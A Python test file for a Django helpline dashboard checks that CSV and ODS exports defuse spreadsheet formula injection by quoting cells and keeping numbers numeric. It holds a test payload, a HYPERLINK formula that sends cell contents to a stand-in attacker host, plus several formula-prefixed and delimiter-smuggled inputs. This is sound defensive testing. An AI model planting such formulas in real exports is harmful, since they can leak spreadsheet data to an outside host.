"""A code that is named like a formula is text in every exported file, and numbers stay numbers."""

import csv
from datetime import UTC, datetime
from io import BytesIO, StringIO

import pytest
from django.test import Client
from odfdo import Cell, Document
from time_machine import TimeMachineFixture

from chat.figures import counters, own_codes
from chat.figures.own_codes import Named
from chat.models import Figure, Line, Work
from chat.reports.pages.spreadsheets import quoted
from tests.support import admin_pages as staff
from tests.support.texts import both

pytestmark = pytest.mark.django_db
NOW = datetime(2026, 10, 2, 12, tzinfo=UTC)
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Sextortion")'
BASE = "/board/figures/helpwanted/"


@pytest.fixture
def floor(helpwanted: Line, time_machine: TimeMachineFixture) -> Client:
    """Returns Floor's browser. She named a code like a formula, and thirty conversations were about it."""
    time_machine.move_to(NOW)
    floor = staff.floor()
    Work.objects.create(person=floor, line=helpwanted)
    own_codes.add(
        floor, "helpwanted", Named("detail", both(FORMULA, FORMULA)), now=datetime(2026, 6, 1, tzinfo=UTC)
    )
    code = own_codes.of_line(floor, "helpwanted")[-1].code
    for month in (7, 8, 9):
        hour = datetime(2026, month, 3, tzinfo=UTC)
        for name, key in ((counters.ANSWERED, ""), ("wrapup_detail", code)):
            Figure.objects.create(hour=hour, line=helpwanted, name=name, key=key, value=30)
    browser = staff.sign_in(floor)
    staff.proves_a_device(browser, floor)
    return browser


@pytest.mark.parametrize("path", ["2026-Q3.csv", "report/2026-Q3.csv"])
def test_a_csv_quotes_it(floor: Client, path: str) -> None:
    rows = list(csv.reader(StringIO(floor.get(BASE + path).content.decode())))
    cells = [cell for row in rows for cell in row]
    assert "'" + FORMULA in cells
    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
    assert any(row[-1] == "90" or row[-2] == "90" for row in rows)


def test_a_sheet_holds_it_as_quoted_text_and_no_cell_of_it_has_a_formula(floor: Client) -> None:
    document = Document(BytesIO(floor.get(BASE + "report/2026-Q3.ods").content))
    cells: list[Cell] = [
        cell for table in document.body.tables for row in table.traverse() for cell in row.traverse()
    ]
    assert {cell.type for cell in cells if FORMULA in str(cell.value)} == {"string"}
    assert {str(cell.value) for cell in cells if FORMULA in str(cell.value)} == {"'" + FORMULA}
    assert [cell for cell in cells if cell.formula] == []
    assert 90 in [cell.value for cell in cells if cell.type == "float"]


@pytest.mark.parametrize("name", ["=1", "+31", "-1", "@SUM(A1)", "\t=1", "\r=1", "  =1", "\n=1"])
def test_whatever_begins_a_formula_is_quoted(name: str) -> None:
    assert quoted(name) == "'" + name or quoted(name).startswith("'" + name[0])


def test_what_another_spreadsheet_takes_for_two_cells_hides_no_formula() -> None:
    assert quoted("game;=1+1") == "game;'=1+1"
    assert quoted('game";=1') == "game\";'=1"


@pytest.mark.parametrize("name", ["12–15", "<12", "26+", "a-b", "sexting, -afpersing", "", "'t Is zo"])
def test_other_names_stay_as_they_are(name: str) -> None:
    assert quoted(name) == name


@pytest.mark.parametrize("number", [7, -7, None, 1.5])
def test_a_number_stays_a_number(number: float | None) -> None:
    assert quoted(number) is number
